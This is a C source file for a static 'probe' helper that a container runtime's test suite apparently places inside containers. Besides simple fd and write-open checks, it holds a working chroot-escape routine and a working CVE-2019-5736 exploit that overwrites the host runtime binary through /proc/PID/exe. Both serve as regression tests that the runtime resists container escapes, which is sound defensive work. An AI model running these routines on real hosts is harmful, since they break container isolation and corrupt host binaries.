/* SPDX-License-Identifier: GPL-2.0-or-later */
/* A small static helper copied into a test container's rootfs: it does from
 * inside what busybox cannot do precisely (a syscall without the side
 * effects of a shell builtin) and reports on stdout.
 *
 *   probe fds                  open descriptors but the one listing them
 *   probe openw PATH           open(PATH, O_WRONLY|O_APPEND): "ok" or the errno
 *   probe chroot-escape FILE   mkdir x; chroot x; cd .. until FILE (relative) opens
 *   probe exe-attack OUT SECS [kill]
 *                              CVE-2019-5736: grab /proc/PID/exe of any process
 *                              running a binary that is not in the rootfs, (kill
 *                              it,) then try to append to the binary
 *
 * Kept free of anything but libc so that it links statically. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int cmd_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *e;

	if (d == NULL) {
		perror("opendir /proc/self/fd");
		return 1;
	}
	while ((e = readdir(d)) != NULL) {
		char p[512], t[4096];
		ssize_t n;

		if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(d))
			continue;
		snprintf(p, sizeof p, "/proc/self/fd/%s", e->d_name);
		n = readlink(p, t, sizeof t - 1);
		t[n < 0 ? 0 : n] = '\0';
		printf("%s %s\n", e->d_name, t);
	}
	closedir(d);
	return 0;
}

static int cmd_openw(const char *path)
{
	int fd = open(path, O_WRONLY | O_APPEND | O_NOCTTY);

	if (fd < 0) {
		printf("%s\n", strerror(errno));
		return 1;
	}
	printf("ok\n");
	close(fd);
	return 0;
}

static int cmd_chroot_escape(const char *file)
{
	const char *rel = file + strspn(file, "/");
	char buf[4096];
	ssize_t n;
	int fd = -1;

	if (mkdir("chroot-escape-x", 0755) < 0 && errno != EEXIST) {
		perror("mkdir");
		return 2;
	}
	/* chroot() without chdir(): the cwd stays above the new root, and
	 * ".." from there is only stopped by the mount namespace's root.
	 * The file is looked up relative to each directory on the way up:
	 * an absolute lookup after chroot(".") would cross the mounts stacked
	 * on the namespace's root and land back in the container. */
	if (chroot("chroot-escape-x") < 0) {
		printf("chroot: %s\n", strerror(errno));
		return 2;
	}
	for (int i = 0; i < 64 && fd < 0; i++) {
		fd = open(rel, O_RDONLY);
		if (fd < 0 && chdir("..") < 0) {
			perror("chdir ..");
			return 2;
		}
	}
	if (fd < 0) {
		printf("contained: %s not found above the cwd\n", rel);
		return 1;
	}
	n = read(fd, buf, sizeof buf - 1);
	buf[n < 0 ? 0 : n] = '\0';
	printf("ESCAPED: %s\n", buf);
	return 0;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
}

static void report(const char *out, const char *msg)
{
	FILE *f = fopen(out, "w");

	if (f == NULL)
		return;
	fputs(msg, f);
	fclose(f);
}

/* Is the file behind fd a binary of the rootfs?  Those are not the attack's
 * target: the runtime's binary lives on the host. */
static int in_rootfs(int fd)
{
	static const char *const ours[] = {"/bin/busybox", "/proc/self/exe"};
	struct stat a, b;

	if (fstat(fd, &a) < 0)
		return 1;
	for (size_t i = 0; i < sizeof ours / sizeof *ours; i++)
		if (stat(ours[i], &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino)
			return 1;
	return 0;
}

static int cmd_exe_attack(const char *out, double secs, int kill_victim)
{
	double end = now() + secs;
	char pidpath[512] = "", what[4096] = "";
	int fd = -1, victim = 0;

	report(out, "waiting\n");
	/* 1. Catch a process of the container that runs a binary from
	 * outside the rootfs (the runtime, during or after `exec`). */
	while (fd < 0 && now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		if (d == NULL)
			return 2;
		while (fd < 0 && (e = readdir(d)) != NULL) {
			char p[512];
			int f;

			if (atoi(e->d_name) <= 0 || atoi(e->d_name) == getpid())
				continue;
			snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
			f = open(p, O_PATH | O_CLOEXEC);
			if (f < 0)
				continue;
			if (in_rootfs(f)) {
				close(f);
				continue;
			}
			fd = f;
			victim = atoi(e->d_name);
			snprintf(pidpath, sizeof pidpath, "/proc/%s", e->d_name);
			if (readlink(p, what, sizeof what - 1) < 0)
				strcpy(what, "?");
		}
		closedir(d);
	}
	if (fd < 0) {
		report(out, "no foreign exe seen\n");
		return 1;
	}
	/* 2. While it runs the binary is busy (ETXTBSY); once it exits, a
	 * writable open through our descriptor overwrites the host's file
	 * unless the runtime ran from a sealed copy.  A test that keeps the
	 * victim blocked (on a FIFO, so that step 1 cannot miss it) asks us
	 * to end it. */
	if (kill_victim)
		kill(victim, SIGKILL);
	{
		char self[64], msg[8192];
		int last = 0;

		snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
		while (now() < end) {
			int w = open(self, O_WRONLY | O_APPEND);
			if (w >= 0) {
				ssize_t n = write(w, "PWNED-BY-CVE-2019-5736\n", 23);
				int e = errno;

				close(w);
				/* a sealed memfd opens for writing but refuses the write */
				if (n <= 0) {
					snprintf(msg, sizeof msg, "opened %s for writing, write refused: %s\n", what,
						 strerror(e));
					report(out, msg);
					return 1;
				}
				snprintf(msg, sizeof msg, "WROTE %zd bytes to %s\n", n, what);
				report(out, msg);
				return 0;
			}
			last = errno;
			usleep(1000);
		}
		snprintf(msg, sizeof msg, "held %s (%s) but could not write: %s\n", what, pidpath, strerror(last));
		report(out, msg);
	}
	return 1;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 2 && strcmp(argv[1], "fds") == 0)
		return cmd_fds();
	if (argc >= 3 && strcmp(argv[1], "openw") == 0)
		return cmd_openw(argv[2]);
	if (argc >= 3 && strcmp(argv[1], "chroot-escape") == 0)
		return cmd_chroot_escape(argv[2]);
	if (argc >= 4 && strcmp(argv[1], "exe-attack") == 0)
		return cmd_exe_attack(argv[2], atof(argv[3]), argc >= 5 && strcmp(argv[4], "kill") == 0);
	fprintf(stderr, "usage: probe fds|openw PATH|chroot-escape FILE|exe-attack OUT SECS [kill]\n");
	return 2;
}
